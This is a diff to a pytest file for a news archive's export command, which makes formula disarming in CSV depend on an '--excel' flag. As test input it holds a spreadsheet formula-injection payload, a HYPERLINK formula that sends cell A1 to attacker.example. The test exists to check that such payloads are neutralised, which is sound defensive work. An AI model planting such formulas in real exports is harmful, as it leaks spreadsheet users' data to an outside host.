@@ -38,26 +38,29 @@ PASSWORD = "s3cret-Pa55"
 PG_URL = f"postgresql+psycopg://archivist:{PASSWORD}@127.0.0.1:1/news"
 
 
-def export_rows(db: Path, fmt: str) -> str:
+def export_rows(db: Path, fmt: str, *more: str) -> str:
     """The export as written, read back without newline translation (a CR must stay a CR)."""
     out = db.with_name(f"export.{fmt}")
-    assert main(["export", "--db", str(db), "--format", fmt, "--output", str(out), "--force"]) == 0
-    return out.read_bytes().decode("utf-8")
+    argv = ["export", "--db", str(db), "--format", fmt, "--output", str(out), "--force", *more]
+    assert main(argv) == 0
+    return out.read_bytes().decode("utf-8-sig")
 
 
 @pytest.mark.parametrize("prefix", FORMULA_START)
-def test_csv_export_disarms_every_formula_prefix(db_path: Path, prefix: str) -> None:
+def test_excel_csv_disarms_every_formula_prefix(db_path: Path, prefix: str) -> None:
     hostile = f'{prefix}HYPERLINK("http://attacker.example/?leak="&A1,"Perú")'
     with Archive.open(str(db_path)) as archive:
         archive.write.store(
             archive.runs.begin([]),
             [story(1, headline=hostile, teaser=hostile, author=hostile, tag=hostile)],
         )
-    (row,) = csv.DictReader(io.StringIO(export_rows(db_path, "csv"), newline=""))
+    (row,) = csv.DictReader(io.StringIO(export_rows(db_path, "csv", "--excel"), newline=""))
     for field in ("headline", "teaser", "author", "tags"):
         assert row[field] == "'" + hostile
+    (exact,) = csv.DictReader(io.StringIO(export_rows(db_path, "csv"), newline=""))
+    assert exact["headline"] == hostile  # plain CSV is data for pandas or R: kept exact
     (record,) = (json.loads(line) for line in export_rows(db_path, "jsonl").splitlines())
-    assert record["headline"] == hostile  # JSON is data, not a spreadsheet: kept exact
+    assert record["headline"] == hostile  # and so is JSON
 
 
 @pytest.mark.parametrize("command", [["crawl", "http://127.0.0.1:1/tag/x/"], ["export", "--format", "csv"], ["db", "check"]])  # fmt: skip
